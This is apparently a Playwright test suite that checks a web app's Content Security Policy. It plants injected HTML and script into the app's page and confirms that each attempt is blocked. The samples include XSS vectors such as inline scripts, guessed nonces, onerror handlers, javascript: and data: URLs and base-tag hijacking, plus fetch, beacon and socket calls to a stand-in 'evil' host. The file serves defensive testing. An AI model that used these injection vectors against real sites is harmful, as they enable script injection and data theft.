import type { Browser, Page } from '@playwright/test';
import { App } from '../support/app';
import { Foreign } from '../support/foreign';
import { expect, test } from '../support/test';

/** What a planted script notes when it runs, and what the browser says of what it did not run. */
interface Noted {
  ran?: string[];
  violations?: string[];
  errors?: string[];
}

let foreign: Foreign;

test.beforeEach(async () => {
  foreign = await Foreign.start();
});

test.afterEach(async () => {
  await foreign.close();
});

/** Opens our page with something planted into its body, as a hole in the page would. */
async function planted(browser: Browser, origin: string, plant: (nonce: string, evil: string) => string): Promise<Page> {
  // A context of its own: in all others the browser may not say a word about a policy.
  const page = await (await browser.newContext({ serviceWorkers: 'block' })).newPage();
  await page.addInitScript(() => {
    const noted: Noted = Object.assign(window, { ran: [], violations: [], errors: [] });
    document.addEventListener('securitypolicyviolation', (event) => noted.violations?.push(event.effectiveDirective));
  });
  await page.route(`${origin}/`, async (route) => {
    const answer = await route.fetch();
    const nonce = /'nonce-([^']+)'/.exec(answer.headers()['content-security-policy'] ?? '')?.[1] ?? '';
    expect(nonce).not.toBe('');
    const body = (await answer.text()).replace('</body>', `${plant(nonce, `http://127.0.0.1:${foreign.port}`)}</body>`);
    await route.fulfill({ response: answer, body });
  });
  await page.goto(`${origin}/`);
  return page;
}

async function noted(page: Page): Promise<Required<Noted>> {
  return page.evaluate(() => {
    const { ran = [], violations = [], errors = [] } = window as Noted;
    return { ran, violations, errors };
  });
}

const RUN = 'window.ran.push';

for (const [what, directive, plant] of [
  ['an inline script', 'script-src-elem', () => `<script>${RUN}('inline')</script>`],
  ['a script with a guessed nonce', 'script-src-elem', () => `<script nonce="AAAAAAAAAAAAAAAAAAAAAA==">${RUN}('guess')</script>`],
  ['a handler', 'script-src-attr', () => `<img src="/nothing.png" onerror="${RUN}('handler')">`],
  ['a script address', 'script-src-elem', () => `<iframe src="javascript:parent.ran.push('address')"></iframe>`],
  ['a script in data', 'script-src-elem', () => `<script src="data:text/javascript,${RUN}('data')"></script>`],
  ['a foreign script', 'script-src-elem', (_: string, evil: string) => `<script src="${evil}/script.js"></script>`],
  ['a foreign module', 'script-src-elem', (_: string, evil: string) => `<script type="module" src="${evil}/module.js"></script>`],
  ['a foreign frame', 'frame-src', (_: string, evil: string) => `<iframe src="${evil}/frame"></iframe>`],
  ['a foreign object', 'object-src', (_: string, evil: string) => `<object data="${evil}/object"></object>`],
  ['a foreign image', 'img-src', (_: string, evil: string) => `<img src="${evil}/image.png">`],
  ['a foreign style', 'style-src-elem', (_: string, evil: string) => `<link rel="stylesheet" href="${evil}/style.css">`],
  ['an inline style', 'style-src-elem', () => '<style>body { display: none }</style>'],
  ['a style attribute', 'style-src-attr', () => '<p style="position: fixed">x</p>'],
  ['a base', 'base-uri', (_: string, evil: string) => `<base href="${evil}/"><img src="relative.png">`],
  ['a foreign video', 'media-src', (_: string, evil: string) => `<video src="${evil}/video.mp4" autoplay></video>`],
  ['a foreign manifest', 'manifest-src', (_: string, evil: string) => `<link rel="manifest" href="${evil}/manifest.json">`],
] as const) {
  test(`${what} that somebody has planted does nothing`, async ({ app, browser }) => {
    const page = await planted(browser, app.origin, plant);
    // Chromium asks for a manifest only when somebody wants to install the page.
    if (directive !== 'manifest-src') {
      await expect.poll(async () => (await noted(page)).violations, `${directive} is violated`).toContain(directive);
    }
    await page.waitForLoadState('networkidle');
    const { ran } = await noted(page);
    expect(ran).toEqual([]);
    expect(foreign.asked, 'nobody else was asked for anything').toEqual([]);
    expect(await page.evaluate(() => document.baseURI)).toBe(`${app.origin}/`);
    await expect(page.locator('body')).toBeVisible();
    await page.context().close();
  });
}

/** Even code that is trusted reaches nobody else, and makes no code out of texts. */
const TRUSTED: [string, string, (evil: string) => string][] = [
  ['eval', 'script-src', () => `eval("${RUN}('eval')")`],
  ['a function out of a text', 'script-src', () => `new Function("${RUN}('function')")()`],
  ['a timer with a text', 'script-src', () => `setTimeout("${RUN}('timer')", 0)`],
  ['a fetch', 'connect-src', (evil) => `fetch('${evil}/fetch').catch((error) => errors.push(error.name))`],
  ['a beacon', 'connect-src', (evil) => `navigator.sendBeacon('${evil}/beacon', 'x')`],
  ['a request of the old kind', 'connect-src', (evil) => `const old = new XMLHttpRequest(); old.open('GET', '${evil}/old'); old.send()`],
  ['a socket', 'connect-src', (evil) => `new WebSocket('${evil.replace('http', 'ws')}/socket')`],
  ['a stream of events', 'connect-src', (evil) => `new EventSource('${evil}/events')`],
  ['a worker', 'worker-src', () => `new Worker(URL.createObjectURL(new Blob(['1'])))`],
  ['a form to elsewhere', 'form-action', (evil) => `const form = document.createElement('form'); form.action = '${evil}/form'; document.body.append(form); addEventListener('load', () => form.submit())`],
];

for (const [what, directive, code] of TRUSTED) {
  test(`${what} by a script of our own is blocked`, async ({ app, browser }) => {
    const page = await planted(browser, app.origin, (nonce, evil) => {
      return `<script nonce="${nonce}">${RUN}('trusted'); try { ${code(evil)} } catch (error) { errors.push(error.name) }</script>`;
    });
    await expect.poll(async () => (await noted(page)).violations, `${directive} is violated`).toContain(directive);
    await page.waitForLoadState('networkidle');
    expect((await noted(page)).ran, 'it ran, and nothing that it made').toEqual(['trusted']);
    expect(foreign.asked).toEqual([]);
    expect(page.url()).toBe(`${app.origin}/`);
    await page.context().close();
  });
}

test('whoever collects the reports is told what a page was kept from', async ({ browser }) => {
  const own = await App.start();
  const page = await (await browser.newContext({ serviceWorkers: 'block' })).newPage();
  // Nothing of the page is intercepted: Chromium reports nothing from one that is.
  await page.goto(own.origin);
  await page.evaluate(async (evil) => {
    const script = document.createElement('script');
    script.textContent = '1';
    const style = document.createElement('style');
    style.textContent = 'body { display: none }';
    const image = document.createElement('img');
    image.src = `${evil}/image.png`;
    document.body.append(script, style, image);
    await fetch(`${evil}/fetch`).catch(() => undefined);
  }, `http://127.0.0.1:${foreign.port}`);
  const reported = () => own.reports.violations.map((violation) => violation['effective-directive']).sort();
  await expect.poll(reported).toEqual(['connect-src', 'img-src', 'script-src-elem', 'style-src-elem']);
  for (const violation of own.reports.violations) expect(violation['document-uri']).toBe(`${own.origin}/`);
  expect(foreign.asked).toEqual([]);
  await page.context().close();
  await own.close();
});

test('nobody shows our pages in a frame', async ({ app, browser }) => {
  for (const host of ['127.0.0.1', 'localhost']) {
    const page = await (await browser.newContext()).newPage();
    const frames = ['/', '/connect/signed-out', '/nothing'].map((path) => `<iframe src="${app.origin}${path}"></iframe>`);
    foreign.show(frames.join(''));
    await page.goto(`http://${host}:${foreign.port}/page`);
    await page.waitForLoadState('networkidle');
    expect(page.frames()).toHaveLength(4);
    for (const frame of page.frames().slice(1)) {
      expect(await frame.locator('main').count(), `${host} ${frame.url()}`).toBe(0);
    }
    await page.context().close();
  }
});
